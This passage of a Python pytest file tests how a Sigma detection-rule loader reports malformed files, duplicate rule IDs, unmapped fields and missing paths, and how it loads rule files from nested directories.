        pytest.param("- just\n- a list\n", "parse error: not a Sigma document", id="a-list"),
        pytest.param("", "no Sigma rule in the file", id="empty"),
        pytest.param(
            "title: No detection\nlogsource:\n  product: linux\n  category: process_creation\n",
            "parse error: Sigma rule must have a detection definitions",
            id="no-detection",
        ),
    ],
)
def test_unreadable_files_are_reported(tmp_path: Path, text: str, reason: str) -> None:
    loaded = load_text(tmp_path, text)
    assert loaded.rules == []
    ((label, got),) = loaded.unsupported
    assert label == str(tmp_path / "rule.yml")
    assert got.startswith(reason)


def test_duplicate_ids_are_reported(tmp_path: Path) -> None:
    (tmp_path / "a.yml").write_text(sigma_text("s:\n  Image: /a\ncondition: s"), encoding="utf-8")
    (tmp_path / "b.yml").write_text(sigma_text("s:\n  Image: /b\ncondition: s"), encoding="utf-8")
    loaded = load_sigma([tmp_path])
    assert [r.source for r in loaded.rules] == ["sigma:a.yml"]
    assert loaded.unsupported == [
        (
            str(tmp_path / "b.yml"),
            f"duplicate rule id sigma.{RULE_ID} (also in {tmp_path / 'a.yml'})",
        )
    ]


def test_unsupported_rules_are_logged(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="app.rules.sigma"):
        load_text(tmp_path, sigma_text("sel:\n  Company: ACME\ncondition: sel"))
    assert "field Company has no mapping for process_creation" in caplog.text


def test_a_directory_loads_every_yml_under_it(tmp_path: Path) -> None:
    nested = tmp_path / "linux" / "process_creation"
    nested.mkdir(parents=True)
    (nested / "a.yml").write_text(sigma_text("s:\n  Image: /a\ncondition: s"), encoding="utf-8")
    (nested / "notes.txt").write_text("not a rule", encoding="utf-8")
    assert [r.source for r in load_sigma([tmp_path]).rules] == ["sigma:a.yml"]


def test_a_missing_path_is_an_input_error(tmp_path: Path) -> None:
    with pytest.raises(InputError):
        load_sigma([tmp_path / "nowhere"])
